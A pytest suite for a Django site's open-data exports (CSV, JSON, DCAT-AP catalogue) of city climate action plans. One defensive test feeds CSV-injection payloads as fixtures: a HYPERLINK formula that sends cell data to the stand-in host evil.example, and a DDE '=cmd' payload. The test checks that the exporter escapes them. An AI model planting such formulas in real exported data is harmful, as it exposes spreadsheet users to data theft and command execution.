"""The open data downloads: CSV files that parse and match the database, the JSON document, the DCAT-AP catalogue."""

import csv
import io
import json
from datetime import date
from decimal import Decimal
from urllib.parse import urlsplit

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from wagtail.models import PageViewRestriction

from kb.content_files.pages import find_page
from kb.models import ActionPlanPage
from plans import open_data
from plans.models import Action, IndicatorValue, StatusUpdate
from plans.progress import plan_progress
from tests.network import COLOGNE_PLAN, SORIA_PLAN

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
FILES = ["/data/plans.csv", "/data/actions.csv", "/data/indicator-values.csv"]
EU = "http://publications.europa.eu/resource/authority/"
IANA = "https://www.iana.org/assignments/media-types/"


@pytest.fixture
def cologne(structure):
    return find_page(structure, COLOGNE_PLAN)


@pytest.fixture
def soria(structure):
    return find_page(structure, SORIA_PLAN)


def download(client, url, **headers) -> bytes:
    response = client.get(url, **headers)
    assert response.status_code == 200, url
    return b"".join(response.streaming_content) if response.streaming else response.content


def table(client, url) -> list[dict]:
    content = download(client, url)
    assert content.startswith(BOM)
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def header(client, url) -> list[str]:
    return next(csv.reader(io.StringIO(download(client, url).decode("utf-8-sig"), newline="")))


def published_values():
    return IndicatorValue.objects.filter(indicator__plan__in=ActionPlanPage.objects.published())


# --- the page ---------------------------------------------------------------------------------------------------------


def test_the_open_data_page_lists_the_files_the_licence_and_the_catalogue(client, structure):
    response = client.get("/data/")
    assert response.status_code == 200
    html = response.content.decode()
    assert 'class="site-header"' in html  # the site's own layout
    for url in [*FILES, "/data/open-data.json", "/data/catalog.jsonld", "/api/docs"]:
        assert f'href="{url}"' in html, url
    assert "CC BY 4.0" in html and 'href="https://creativecommons.org/licenses/by/4.0/" rel="license"' in html
    assert "Continuously" in html
    rows = ActionPlanPage.objects.published().count()
    assert f"{rows} rows" in html


# --- the CSV files ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", FILES)
def test_csv_files_are_streamed_utf8_with_a_bom_as_attachments(client, structure, url):
    response = client.get(url)
    assert response.streaming
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{url.rsplit("/", 1)[-1]}"'
    content = b"".join(response.streaming_content)
    assert content.startswith(BOM) and not content.startswith(BOM * 2)
    assert content.count(BOM) == 1


def test_plans_csv_has_one_row_per_published_plan_as_in_the_database(client, cologne):
    assert header(client, "/data/plans.csv") == [
        "plan_id", "title", "url", "city", "city_slug", "country", "population", "language", "status", "adopted_on",
        "update_interval_days", "timeliness", "actions", "actions_late", "actions_stale", "actions_on_time",
        "actions_completed", "actions_cancelled", "indicators", "budget_planned_eur", "budget_spent_eur", "themes",
        "last_published_at",
    ]  # fmt: skip
    rows = table(client, "/data/plans.csv")
    assert len(rows) == ActionPlanPage.objects.published().count() >= 3
    row = next(row for row in rows if row["plan_id"] == str(cologne.pk))
    assert (row["title"], row["city"], row["city_slug"], row["country"], row["population"]) == (
        cologne.title,
        "Cologne",
        "cologne",
        "DE",
        "1084000",
    )
    assert row["url"] == f"http://testserver{cologne.url}"
    assert (row["status"], row["adopted_on"], row["actions"]) == ("adopted", "2025-03-27", "6")
    assert (row["budget_planned_eur"], row["budget_spent_eur"]) == ("3365000", "1017700")  # not 3365000.00
    progress = plan_progress(cologne)
    assert row["timeliness"] == progress.timeliness.value
    assert {f"actions_{value}": str(count) for value, count in progress.counts} == {
        key: value for key, value in row.items() if key.startswith("actions_")
    }
    assert row["themes"].split("; ") == list(cologne.themes.values_list("name", flat=True))


def test_actions_csv_has_one_row_per_published_action(client, cologne):
    rows = table(client, "/data/actions.csv")
    assert list(rows[0]) == [
        "plan_id", "plan_title", "city", "country", "identifier", "title", "url", "theme", "phase", "status",
        "status_reason", "timeliness", "last_update", "last_heard", "planned_start", "planned_end", "actual_start",
        "actual_end", "budget_planned_eur", "budget_spent_eur", "lead_department", "partners", "indicators",
        "lessons", "description",
    ]  # fmt: skip
    assert len(rows) == Action.objects.published().count()
    row = next(row for row in rows if row["plan_id"] == str(cologne.pk) and row["identifier"] == "3")
    assert (row["title"], row["theme"], row["status"], row["timeliness"]) == (
        "Wärmepumpen-Check für Mehrfamilienhäuser",
        "Energy",
        "delayed",
        "late",
    )
    assert (row["planned_start"], row["actual_end"], row["last_update"]) == ("2025-04-01", "", "2026-09-28")
    assert (row["budget_planned_eur"], row["budget_spent_eur"]) == ("450000", "96000")
    assert row["indicators"] == "durchgefuhrte-machbarkeitschecks"
    assert row["lessons"].startswith("http://testserver/cities/cologne/")
    assert row["description"] == cologne.actions.get(identifier="3").description
    first = next(row for row in rows if row["plan_id"] == str(cologne.pk) and row["identifier"] == "1")
    assert first["partners"] == "Verbraucherzentrale NRW; Bürgerzentrum Mülheim"


def test_indicator_values_csv_has_one_row_per_value_with_the_value_per_1000_inhabitants(client, cologne, soria):
    rows = table(client, "/data/indicator-values.csv")
    assert list(rows[0]) == [
        "plan_id", "plan_title", "city", "city_slug", "country", "population", "indicator", "indicator_name", "unit",
        "direction", "common_indicator", "date", "value", "value_per_1000_inhabitants", "source",
    ]  # fmt: skip
    assert len(rows) == published_values().count()
    for plan, population in ((cologne, 1_084_000), (soria, 40_000)):
        stored = plan.indicators.get(common__slug="households-advised")
        mine = [row for row in rows if row["plan_id"] == str(plan.pk) and row["indicator"] == stored.identifier]
        assert [(row["date"], Decimal(row["value"])) for row in mine] == [
            (value.date.isoformat(), value.value) for value in stored.values.order_by("date")
        ]
        for row in mine:
            expected = (Decimal(row["value"]) * 1000 / population).quantize(Decimal("0.000001"))
            assert Decimal(row["value_per_1000_inhabitants"]) == expected
            assert (row["common_indicator"], row["population"]) == ("households-advised", str(population))
    first = next(row for row in rows if row["plan_id"] == str(cologne.pk) and row["indicator"] == "beratene-haushalte")
    assert (first["date"], first["value"], first["value_per_1000_inhabitants"]) == ("2025-04-30", "44", "0.04059")
    assert first["source"] == "Monatsbericht der Quartiersbüros"  # the umlaut survives
    own = next(row for row in rows if row["indicator"] == "geschulte-fachkrafte")  # not a common indicator
    assert (own["common_indicator"], own["value_per_1000_inhabitants"]) == ("", "")
    assert own["source"] == "Handwerkskammer zu Köln"


def test_text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_are_not(client, cologne):
    hyperlink = '=HYPERLINK("https://evil.example/?"&A1,"Details")'
    Action.objects.filter(plan=cologne, identifier="3").update(
        title=hyperlink, status_reason="+1+1", lead_department="@SUM(A1:A9)", partners="-2+3; Mieterverein"
    )
    value = IndicatorValue.objects.filter(indicator__plan=cologne, indicator__identifier="beratene-haushalte")
    value.filter(date=date(2025, 4, 30)).update(value=Decimal("-5.5"), source="=cmd|' /C calc'!A0")
    rows = table(client, "/data/actions.csv")
    row = next(row for row in rows if row["plan_id"] == str(cologne.pk) and row["identifier"] == "3")
    assert row["title"] == "'" + hyperlink
    assert (row["status_reason"], row["lead_department"]) == ("'+1+1", "'@SUM(A1:A9)")
    assert row["partners"] == "'-2+3; Mieterverein"
    rows = table(client, "/data/indicator-values.csv")
    measured = next(row for row in rows if row["indicator"] == "beratene-haushalte" and row["date"] == "2025-04-30")
    assert measured["source"] == "'=cmd|' /C calc'!A0"
    assert measured["value"] == "-5.5" and measured["value_per_1000_inhabitants"].startswith("-0.00507")  # numbers
    api = client.get(f"/api/plans/{cologne.pk}/actions/3").json()
    assert api["title"] == hyperlink  # JSON is not a spreadsheet: the text is as the city wrote it


@pytest.mark.parametrize(
    "value, written",
    [
        ("=1+1", "'=1+1"),
        ("+49 221", "'+49 221"),
        ("-", "'-"),
        ("@x", "'@x"),
        ("\tTab", "'\tTab"),
        ("a=1", "a=1"),
        ("", ""),
        (None, ""),
        (Decimal("-5.5000"), "-5.5"),
        (Decimal("1E+3"), "1000"),
        (Decimal("0.0000"), "0"),
        (-3, "-3"),
        (date(2025, 1, 2), "2025-01-02"),
    ],
)
def test_cells(value, written):
    assert open_data.cell(value) == written


# --- the JSON document ------------------------------------------------------------------------------------------------


def test_the_json_document_has_every_published_plan_with_its_actions_updates_and_indicators(client, cologne):
    response = client.get("/data/open-data.json")
    assert response["Content-Type"] == "application/json"
    document = json.loads(response.content)
    assert document["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert document["catalog"] == "http://testserver/data/catalog.jsonld"
    assert [plan["id"] for plan in document["plans"]] == list(
        ActionPlanPage.objects.published().order_by("path").values_list("pk", flat=True)
    )
    plan = next(plan for plan in document["plans"] if plan["id"] == cologne.pk)
    assert len(plan["actions"]) == 6
    updates = sum(len(action["updates"]) for action in plan["actions"])
    assert updates == StatusUpdate.objects.filter(action__plan=cologne).count()
    values = sum(len(indicator["values"]) for indicator in plan["indicators"])
    assert values == IndicatorValue.objects.filter(indicator__plan=cologne).count()
    detail = client.get(f"/api/plans/{cologne.pk}").json()
    assert detail["indicators"] == plan["indicators"]  # one serialisation for the API and the download
    assert [{**action, "updates": None} for action in detail["actions"]] == [
        {key: value for key, value in {**action, "updates": None}.items() if key != "description"}
        for action in plan["actions"]
    ]
    assert {item["slug"] for item in document["common_indicators"]} >= {"households-advised"}


@pytest.mark.parametrize("how", ["unpublished", "private"])
def test_plans_readers_may_not_see_are_in_no_download(client, cologne, soria, how):
    if how == "unpublished":
        cologne.unpublish()
    else:
        PageViewRestriction.objects.create(page=cologne, restriction_type=PageViewRestriction.PASSWORD, password="x")
    for url in FILES:
        ids = {row["plan_id"] for row in table(client, url)}
        assert str(cologne.pk) not in ids and str(soria.pk) in ids, url
    plans = {plan["id"] for plan in json.loads(download(client, "/data/open-data.json"))["plans"]}
    assert cologne.pk not in plans and soria.pk in plans
    content = b"".join(download(client, url) for url in [*FILES, "/data/open-data.json"])
    assert "Quartiersbüros".encode() not in content


# --- the DCAT-AP catalogue --------------------------------------------------------------------------------------------


def node_ids(nodes) -> list[str]:
    return [node["@id"] for node in (nodes if isinstance(nodes, list) else [nodes])]


def test_the_catalogue_is_dcat_ap_json_ld_with_absolute_addresses(client, structure):
    response = client.get("/data/catalog.jsonld", HTTP_HOST="data.example.eu")
    assert response["Content-Type"] == "application/ld+json"
    catalog = json.loads(response.content)
    assert catalog["@context"]["dcat"] == "http://www.w3.org/ns/dcat#"
    assert catalog["@context"]["dct"] == "http://purl.org/dc/terms/"
    assert catalog["@type"] == "dcat:Catalog" and catalog["@id"] == "http://data.example.eu/data/catalog.jsonld"
    for prop in ("dct:title", "dct:description"):  # mandatory in DCAT-AP 3.0
        assert catalog[prop]["@value"] and catalog[prop]["@language"] == "en"
    assert catalog["dct:publisher"]["@type"] == "foaf:Agent" and catalog["dct:publisher"]["foaf:name"]["@value"]
    assert node_ids(catalog["dct:license"]) == [EU + "licence/CC_BY_4_0"]
    assert node_ids(catalog["dcat:themeTaxonomy"]) == [EU + "data-theme"]
    datasets = catalog["dcat:dataset"]
    assert [dataset["@type"] for dataset in datasets] == ["dcat:Dataset"] * 3
    downloads = set()
    for dataset in datasets:
        for prop in ("dct:title", "dct:description"):
            assert dataset[prop]["@value"]
        assert dataset["dct:identifier"] == dataset["@id"]
        assert dataset["@id"].startswith("http://data.example.eu/data/#")
        assert dataset["dcat:keyword"] and all(keyword["@value"] for keyword in dataset["dcat:keyword"])
        assert node_ids(dataset["dct:spatial"]) == [EU + "country/EUR"]
        assert set(node_ids(dataset["dcat:theme"])) == {EU + f"data-theme/{code}" for code in ("ENVI", "REGI", "GOVE")}
        assert dataset["dct:modified"]["@type"] == "xsd:dateTime"
        temporal = dataset["dct:temporal"]
        assert temporal["@type"] == "dct:PeriodOfTime"
        assert temporal["dcat:startDate"]["@type"] == temporal["dcat:endDate"]["@type"] == "xsd:date"
        assert temporal["dcat:startDate"]["@value"] <= temporal["dcat:endDate"]["@value"]
        assert node_ids(dataset["dct:accrualPeriodicity"]) == [EU + "frequency/UPDATE_CONT"]
        for distribution in dataset["dcat:distribution"]:
            assert distribution["@type"] == "dcat:Distribution"
            access, url = distribution["dcat:accessURL"]["@id"], distribution["dcat:downloadURL"]["@id"]
            assert access == url and urlsplit(url).scheme == "http" and urlsplit(url).netloc == "data.example.eu"
            assert node_ids(distribution["dct:license"]) == [EU + "licence/CC_BY_4_0"]
            media_type = distribution["dcat:mediaType"]["@id"]
            file_type = distribution["dct:format"]["@id"]
            assert (media_type, file_type) in {
                (IANA + "text/csv", EU + "file-type/CSV"),
                (IANA + "application/json", EU + "file-type/JSON"),
            }
            downloads.add(urlsplit(url).path)
    assert downloads == {*FILES, "/data/open-data.json"}
    for path in downloads:  # every address in the catalogue answers
        assert client.get(path).status_code == 200
    service = catalog["dcat:service"][0]
    assert service["@type"] == "dcat:DataService"
    assert service["dcat:endpointURL"]["@id"] == "http://data.example.eu/api/"
    assert client.get(urlsplit(service["dcat:endpointDescription"]["@id"]).path).status_code == 200


def test_the_catalogue_periods_are_the_data_s_first_and_last_dates(client, structure):
    catalog = json.loads(download(client, "/data/catalog.jsonld"))
    periods = {
        dataset["@id"].rsplit("#", 1)[-1]: (
            dataset["dct:temporal"]["dcat:startDate"]["@value"],
            dataset["dct:temporal"]["dcat:endDate"]["@value"],
        )
        for dataset in catalog["dcat:dataset"]
    }
    dates = sorted(value.date.isoformat() for value in published_values())
    assert periods["indicator-values"] == (dates[0], dates[-1])
    actions = Action.objects.published()
    starts = [day for action in actions for day in (action.planned_start, action.actual_start) if day]
    ends = [day for action in actions for day in (action.planned_end, action.actual_end) if day]
    updates = [update.date for update in StatusUpdate.objects.filter(action__in=actions)]
    assert periods["actions"] == (min(starts + updates).isoformat(), max(ends + updates).isoformat())
    assert periods["plans"][0] <= periods["actions"][0] and periods["plans"][1] >= periods["actions"][1]


# --- methods and costs ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/data/", *FILES, "/data/open-data.json", "/data/catalog.jsonld"])
def test_the_downloads_are_read_only(client, structure, url):
    assert client.post(url).status_code == 405
    assert client.head(url).status_code == 200


def queries(client, url) -> int:
    with CaptureQueriesContext(connection) as captured:
        download(client, url)
    return len(captured)


URLS = [*FILES, "/data/open-data.json", "/data/catalog.jsonld", "/data/"]


def test_queries_are_bounded_and_do_not_grow_with_the_plans(client, cologne, django_assert_max_num_queries):
    before = {url: queries(client, url) for url in URLS}
    for url, most in zip(URLS, [16, 16, 16, 18, 9, 6], strict=True):
        with django_assert_max_num_queries(most):
            download(client, url)  # consumed inside: a streamed file queries as it is written
    cologne.unpublish()
    assert {url: queries(client, url) for url in URLS} == before  # one plan fewer, the same queries


def test_plans_are_read_in_batches_of_a_fixed_number_of_queries_with_the_same_rows(client, structure, monkeypatch):
    whole = {url: download(client, url) for url in FILES}
    plans = ActionPlanPage.objects.published().count()
    monkeypatch.setattr(open_data, "BATCH_SIZE", 1)
    assert {url: download(client, url) for url in FILES} == whole
    one_per_batch = queries(client, "/data/actions.csv")
    monkeypatch.setattr(open_data, "BATCH_SIZE", plans)
    one_batch = queries(client, "/data/actions.csv")
    extra, remainder = divmod(one_per_batch - one_batch, plans - 1)
    assert remainder == 0 and 0 < extra <= 12  # the same queries for each batch, none per action or value
